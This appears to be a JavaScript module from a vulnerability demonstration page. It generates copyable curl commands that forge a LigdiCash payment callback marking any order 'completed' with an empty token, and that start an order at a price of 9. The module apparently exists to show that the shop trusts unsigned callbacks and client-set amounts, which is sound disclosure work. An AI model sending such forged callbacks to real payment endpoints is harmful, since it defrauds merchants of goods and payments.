// What anybody could send, as commands to copy: a callback that nobody sent, and a price that the shop never asked.

import { element, t } from './page.js';

export function forged(id, amount) {
  const callback = {
    response_code: '00',
    status: 'completed',
    token: '',
    amount,
    montant: amount,
    custom_data: [{ keyof_customdata: 'transaction_id', valueof_customdata: id }],
    external_id: id,
  };
  return curl('/api/ligdicash/callback', callback);
}

/** An order of its own, so that the reader's is left alone. */
export function cheap(order) {
  return curl('/api/payment/initiate', { orderId: `${order}-9F`, amount: 9, description: 'Sac' });
}

function curl(path, body) {
  return [
    `curl -i ${location.origin}${path} \\`,
    "  -H 'content-type: application/json' \\",
    `  -d '${JSON.stringify(body)}'`,
  ].join('\n');
}

export function copyButton(text) {
  const button = element('button', { type: 'button' }, t('copy'));
  button.addEventListener('click', async () => {
    await navigator.clipboard.writeText(text);
    button.textContent = t('copied');
  });
  return button;
}
